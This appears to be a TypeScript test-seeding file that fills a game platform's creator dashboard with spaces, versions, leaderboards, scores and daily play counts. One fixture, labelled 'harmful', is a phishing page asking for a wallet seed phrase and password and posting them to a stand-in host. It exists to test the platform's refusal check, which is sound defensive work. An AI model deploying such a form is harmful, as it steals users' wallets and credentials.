import { createClient } from '@spaceport/client/client';
import type { Browser } from 'playwright-core';
import { createTokens } from '../../server/src/accounts/tokens.ts';
import { type Files, publishFiles, publishLive } from '../../server/test/files.ts';
import type { Persona, TestService } from '../../server/test/service.ts';
import { type SignedUp, signUp } from '../../server/test/visitor.ts';
import { drawPicture } from './pictures.ts';
import { game, setPicture, shownSpace } from './seed.ts';

const dayMs = 86_400_000;

/** Makes an account with a signed-in browser and a token. */
export async function creatorWithBrowser(
  service: TestService,
  handle: string,
  name = 'Mira',
): Promise<{ creator: Persona; viewer: SignedUp }> {
  const viewer = await signUp(service, { handle, name });
  const { platform } = service.service;
  const { id } = await platform.database.db
    .selectFrom('creators')
    .select('id')
    .where('handle', '=', handle)
    .executeTakeFirstOrThrow();
  const tokens = createTokens(platform);
  const { token } = await tokens.issue(id, { name: 'test' });
  tokens.close();
  const authorization = `Bearer ${token}`;
  return {
    viewer,
    creator: {
      handle,
      token,
      client: createClient({ baseUrl: service.baseUrl, token, retry: false }),
      call: (method, path, body, headers = {}) =>
        service.anonymous.call(method, path, body, { authorization, ...headers }),
    },
  };
}

const next = (version: string): Files => ({
  ...game,
  'levels/night.json': `{"version":"${version}"}`,
  'sounds/wing.ogg': `wing ${version}`.repeat(4_000),
});
/** A game that the check refuses: it asks for a wallet's seed phrase. */
const harmful: Files = {
  ...game,
  'bonus.html':
    '<!doctype html><title>Bonus</title><form action="https://collect.example/take" method="post"><p>Enter your 12-word seed phrase</p><textarea name="seed_phrase"></textarea><input type="password" name="password"><button>Go</button></form>',
};

const players = ['kestrel', 'sorrel', 'plover', 'linnet', 'dunnock', 'wren'];

/**
 * Fills the account of a creator as after a month: four spaces, one of them with versions in every state,
 * boards and players.
 */
export async function fillDashboard(
  service: TestService,
  browser: Browser,
): Promise<{ creator: Persona; viewer: SignedUp; slug: string }> {
  const { creator, viewer } = await creatorWithBrowser(service, 'mira');
  const drawing = await browser.newPage();
  const { slug } = (await publishLive(service, creator, game, { fields: shownSpace })).space;
  await setPicture(service, slug, await drawPicture(drawing, 3));
  for (const [index, title] of ['Paper Planets', 'Fractions, gently'].entries()) {
    const { space } = await publishLive(service, creator, game, { fields: { ...shownSpace, title } });
    await setPicture(service, space.slug, await drawPicture(drawing, index + 6));
  }
  await publishFiles(creator, game, { fields: { ...shownSpace, title: 'Sketch of a tide' } });
  await drawing.close();

  await publishLive(service, creator, next('2'), { space: slug });
  await publishFiles(creator, next('3'), { space: slug });
  await publishLive(service, creator, next('4'), { space: slug });
  await publishLive(service, creator, { ...next('5'), ...harmful }, { space: slug });
  await fillBoards(service, creator, slug);
  await fillDays(service, slug);
  return { creator, viewer, slug };
}

async function fillBoards(service: TestService, { client }: Persona, slug: string): Promise<void> {
  const params = { slug };
  await client.putBoards({
    params,
    body: {
      boards: [
        { key: 'lamps', title: 'Lamps lit', periods: ['all', 'week', 'day'] },
        { key: 'night', title: 'Fastest night', metric: 'time' },
        { key: 'far', title: 'Farthest flight', metric: 'distance', unit: 'm', trust: 'server' },
      ],
    },
  });
  await client.putAchievements({
    params,
    body: {
      stats: [{ key: 'jumps', label: 'Jumps', op: 'add' }],
      achievements: [
        {
          key: 'hundred',
          title: 'A hundred jumps',
          description: 'Jump a hundred times.',
          trigger: { stat: 'jumps', atLeast: 100 },
          points: 20,
        },
        { key: 'dawn', title: 'Home by dawn', hidden: true, points: 50 },
      ],
    },
  });
  const { secret } = await client.issueSecret({ params });
  const server = createClient({ baseUrl: service.baseUrl, token: secret, retry: false });
  for (const player of players) await service.creator(player);
  await server.postScores({
    body: {
      scores: [
        ...players.map((player, index) => ({ board: 'lamps', player, score: 4_210 - index * 317 })),
        ...players.map((player, index) => ({ board: 'night', player, score: 62_345 + index * 4_801 })),
        ...['plover', 'wren'].map((player) => ({ board: 'lamps', player, score: 12, sandbox: true })),
      ],
    },
  });
  await client.banPlayer({ params, body: { handle: 'sorrel' } });
}

/** Writes counts of past days directly, because the service writes only those of today. */
async function fillDays({ service: { platform } }: TestService, slug: string): Promise<void> {
  const { db } = platform.database;
  const now = platform.clock.now();
  const { id } = await db
    .selectFrom('spaces')
    .select('id')
    .where('slug', '=', slug)
    .executeTakeFirstOrThrow();
  await db
    .updateTable('spaces')
    .set({ created_at: now - 200 * dayMs, plays: 18_432 })
    .where('id', '=', id)
    .execute();
  const days = Array.from({ length: 180 }, (_, at) => {
    const wave = 1.3 + Math.sin(at / 3.1) + (180 - at) / 90;
    const plays = Math.round(60 * wave + ((at * 37) % 23));
    const day = new Date(now - (at + 1) * dayMs).toISOString().slice(0, 10);
    return {
      space_id: id,
      day,
      plays,
      scores: Math.round(plays * 0.7),
      players: Math.round(plays * 0.3),
    };
  });
  await db.insertInto('space_days').values(days).execute();
}
